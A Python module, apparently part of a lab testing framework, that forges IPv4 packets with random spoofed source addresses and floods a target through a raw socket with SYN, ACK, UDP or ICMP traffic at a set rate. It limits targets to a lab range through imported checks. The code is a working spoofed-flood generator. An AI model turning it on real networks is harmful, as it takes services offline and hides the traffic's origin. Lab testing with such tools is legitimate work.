"""Packets with a forged source, which no packaged tool can draw from a given prefix.

In: a ``PacketFlood`` that is spoofed. Out: its packets, sent from a raw socket at its rate.
Must never: claim a source outside ``SPOOFED``, where somebody could be.
"""

from __future__ import annotations

import asyncio
import random
import socket
import struct
from ipaddress import IPv4Address
from typing import Final

from thingwarden.lab.prefix import SPOOFED, require_inside
from thingwarden.lab.tool import PacketFlood

_PROTO_NUMBER: Final = {"syn": 6, "ack": 6, "udp": 17, "icmp": 1}
_TCP_FLAGS: Final = {"syn": 0x02, "ack": 0x10}
_TICK_S: Final = 0.01


async def flood_spoofed(tool: PacketFlood, rng: random.Random) -> None:
    """Send the packets, each from a source of its own.

    Raises:
        RequestError: the target is outside the lab.
        OSError: no raw socket, or no way to the target.
    """
    require_inside(tool.target)
    loop = asyncio.get_running_loop()
    began_at_s, sent_count = loop.time(), 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        while sent_count < tool.packet_count:
            due_count = min(tool.packet_count, 1 + int((loop.time() - began_at_s) * tool.packets_per_s))
            for _ in range(due_count - sent_count):
                sender.sendto(forge_packet(tool, rng), (tool.target, 0))
            sent_count = due_count
            await asyncio.sleep(_TICK_S)


def forge_packet(tool: PacketFlood, rng: random.Random) -> bytes:
    """One IPv4 packet from a random source of ``SPOOFED``; its TCP, UDP or ICMP part has a right checksum."""
    source = SPOOFED[rng.randrange(1, SPOOFED.num_addresses - 1)]
    target, proto = IPv4Address(tool.target), _PROTO_NUMBER[tool.kind]
    content = _transport(tool, rng) + bytes(tool.payload_bytes)
    pseudo = b"" if proto == 1 else source.packed + target.packed + struct.pack(">BBH", 0, proto, len(content))
    checksum_at = {6: 16, 17: 6, 1: 2}[proto]
    content = content[:checksum_at] + _checksum(pseudo + content) + content[checksum_at + 2 :]
    # The kernel fills in length, identification and checksum of the header.
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, proto, 0, source.packed, target.packed)
    return head + content


def _transport(tool: PacketFlood, rng: random.Random) -> bytes:
    port = rng.randrange(1024, 65536)
    if tool.kind == "icmp":
        return struct.pack(">BBHHH", 8, 0, 0, port, 0)
    if tool.kind == "udp":
        return struct.pack(">HHHH", port, tool.port, 8 + tool.payload_bytes, 0)
    sequence = rng.getrandbits(32)
    return struct.pack(">HHIIBBHHH", port, tool.port, sequence, 0, 0x50, _TCP_FLAGS[tool.kind], 512, 0, 0)


def _checksum(data: bytes) -> bytes:
    padded = data + bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack(">H", ~total & 0xFFFF)
